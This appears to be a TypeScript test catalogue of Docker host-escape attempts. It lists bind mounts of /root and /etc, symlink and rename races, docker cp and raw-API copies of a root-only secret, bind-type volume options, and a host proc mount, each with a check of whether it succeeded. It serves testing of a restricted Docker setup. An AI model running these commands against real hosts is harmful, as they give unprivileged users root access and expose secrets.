import { secretRead, type Way } from './way.ts'

const made = 'folders made as root'
const docker = "Docker's own folders"
const copied = 'copying through mounts'
const volumes = 'volume options'

function makes(folder: string, attempt: string, name = attempt): Way {
  return { kind: made, name, attempt, proof: `test -e ${folder}` }
}

function inlineVolume(options: string): string {
  const each = options.split(' ').map((option) => `volume-opt=${option}`)
  return `type=volume,target=/x,${each.join(',')}`
}

/** A container that sees root's folder, made by whatever is open for it. */
const withRoots =
  'docker create --name xc$$ -v /root:/x busybox true || docker create --name xc$$ --mount type=bind,source=/root,target=/x busybox true'

function copies(name: string, attempt: string, proof = secretRead): Way {
  return { kind: copied, name, attempt: `${withRoots}\n${attempt}\ndocker rm -f xc$$`, proof }
}

const race = `mkdir -p race/real/x race/link; ln -sfn /etc race/link/x
for try in $(seq 1 15); do
  ln -sfn real race/at
  docker run --rm -v ~/race/at/x/escape-race:/x busybox true & ln -sfn link race/at; wait
done`

export const mountWays: Way[] = [
  makes(
    '/etc/systemd/system-generators/escape',
    'docker run --rm -v /etc/systemd/system-generators:/x busybox sh -c "echo >/x/escape"',
  ),
  makes(
    '/etc/systemd/system/escape.service.d',
    'docker run --rm -v /etc/systemd/system/escape.service.d:/x busybox true',
  ),
  makes('/etc/cdi/escape', 'docker run --rm -v /etc/cdi/escape:/x:ro busybox true'),
  makes('/root/escape', 'docker run --rm -v /root/escape:/x busybox true'),
  makes('/etc/escape-dots', 'docker run --rm -v /tmp/../etc//escape-dots/:/x busybox true'),
  makes('/etc/escape-link', 'ln -sfn /etc ~/l; docker run --rm -v ~/l/escape-link:/x busybox true'),
  makes(
    '/etc/escape-from',
    `mkdir -p from/escape-from
docker create --name xc$$ --mount type=bind,source=$HOME/from/escape-from,target=/x busybox true
docker create --name xd$$ --volumes-from xc$$ busybox true
mv from was; ln -s /etc from; docker start -a xd$$; docker rm -f xc$$ xd$$`,
    'volumes from a container whose folder becomes a link',
  ),
  {
    kind: made,
    name: 'a folder that is not there yet at the next boot',
    attempt: 'docker run -d --name n$$ --restart always -v /run/roots:/x busybox sleep 1000',
    // What a boot does to /run, and to a container with this policy.
    proof: `id=$(docker ps -q -f status=running); [ -n "$id" ] || exit 1; rmdir /run/roots
kill -9 $(docker inspect -f '{{.State.Pid}}' $id); sleep 3; docker rm -f $id; test -e /run/roots`,
  },
  makes('/etc/escape-race', race, 'a folder that becomes a link'),
  makes(
    '/etc/escape-mount',
    `api POST /containers/create '{"Image":"busybox","Cmd":["true"],"HostConfig":{"Mounts":[{"Type":"bind","Source":"/etc/escape-mount","Target":"/x","BindOptions":{"CreateMountpoint":true}}]}}' | started`,
    'a --mount that makes its source',
  ),
  ...['/var/lib', '/', '/var/../var/lib/docker'].map((above) => ({
    kind: docker,
    name: `a bind of ${above}`,
    attempt: `rest=$(docker image inspect -f '{{.GraphDriver.Data.UpperDir}}' busybox)
docker run --rm --mount type=bind,source=${above},target=/x busybox sh -c "for up in /x/$rest /x/\${rest#/var/lib/} /x/\${rest#/var/lib/docker/}; do echo >\\$up/escape-layer; done"`,
    proof: 'find /var/lib/docker -name escape-layer -delete -print | grep -q .',
  })),
  {
    kind: docker,
    name: 'a bind of the layer itself',
    attempt: `docker run --rm --mount type=bind,source=$(docker image inspect -f '{{.GraphDriver.Data.UpperDir}}' busybox),target=/x busybox sh -c 'echo >/x/escape-layer'`,
    proof: 'find /var/lib/docker -name escape-layer -delete -print | grep -q .',
  },
  copies('docker cp out', 'docker cp xc$$:/x/secret -'),
  copies('docker cp out, by id', 'docker cp $(docker ps -aqf name=xc$$):/x/secret -'),
  copies(
    'docker cp out, by a short id',
    'docker cp $(docker ps -aqf name=xc$$ | cut -c1-6):/x/secret -',
  ),
  copies(
    'docker cp out, by an escaped name',
    'api GET "/containers/x%63$$/archive?path=/x/secret" \'\'',
  ),
  copies(
    'docker cp out, through a link',
    'echo >here; docker run --name xd$$ --volumes-from xc$$ busybox busybox ln -s /x /y; docker cp xd$$:/y/secret -; docker rm -f xd$$',
  ),
  copies(
    'docker cp out, volumes from another',
    'docker create --name xd$$ --volumes-from xc$$ busybox true; docker cp xd$$:/x/secret -; docker rm -f xd$$',
  ),
  copies('the copy of API 1.23', `api POST /v1.23/containers/xc$$/copy '{"Resource":"/x/secret"}'`),
  copies(
    'looking at a file that root alone sees',
    'curl -sSI --unix-socket /run/docker.sock "http://d/containers/xc$$/archive?path=/x/secret"',
    'grep -q X-Docker-Container-Path-Stat $OUT',
  ),
  copies(
    'docker cp in',
    'echo >escape-in; docker cp escape-in xc$$:/x/escape-in',
    'rm /root/escape-in',
  ),
  copies(
    'docker cp while names change hands',
    `docker create --name n$$ busybox true
for try in $(seq 1 40); do
  (docker rename n$$ o$$; docker rename xc$$ n$$; sleep 0.1; docker rename n$$ xc$$; docker rename o$$ n$$) & sleep 0.0$((try % 10))
  (docker cp n$$:/x/secret - & docker cp n$$:/x/secret -; wait) | tee got; wait; grep -q ROOTS-OWN got && break
done; docker rm -f n$$ o$$`,
  ),
  {
    kind: 'devices',
    name: "a device node copied into a user's own folder",
    attempt:
      'mkdir -p nodes; docker create --name n$$ --mount type=bind,source=$HOME/nodes,target=/x busybox true; docker cp - n$$:/x </srv/node.tar; docker rm -f n$$',
    proof: 'test -b /home/mallory/nodes/node',
  },
  {
    kind: volumes,
    name: "a volume that is root's folder, copied from",
    attempt:
      'docker volume create -o type=none -o o=bind -o device=/root v$$; docker create --name n$$ -v v$$:/x busybox true; docker cp n$$:/x/secret -; docker rm -f n$$; docker volume rm v$$',
    proof: secretRead,
  },
  {
    kind: volumes,
    name: 'the same inline',
    attempt: `docker create --name n$$ --mount ${inlineVolume('type=none o=bind device=/root')} busybox true; docker cp n$$:/x/secret -; docker rm -fv n$$`,
    proof: secretRead,
  },
  {
    kind: volumes,
    name: 'the same, called a tmpfs',
    attempt:
      'docker volume create -o type=tmpfs -o o=bind -o device=/root v$$; docker create --name n$$ -v v$$:/x busybox true; docker cp n$$:/x/secret -; docker rm -f n$$; docker volume rm v$$',
    proof: secretRead,
  },
  {
    kind: volumes,
    name: "the host's process table",
    attempt: `docker run --rm --mount ${inlineVolume('type=proc device=proc')} busybox sh -c 'cat /x/1/comm; ls -d /x/sys/kernel/hostname && echo PROCESSES'`,
    proof: 'grep -q ^systemd $OUT',
  },
]
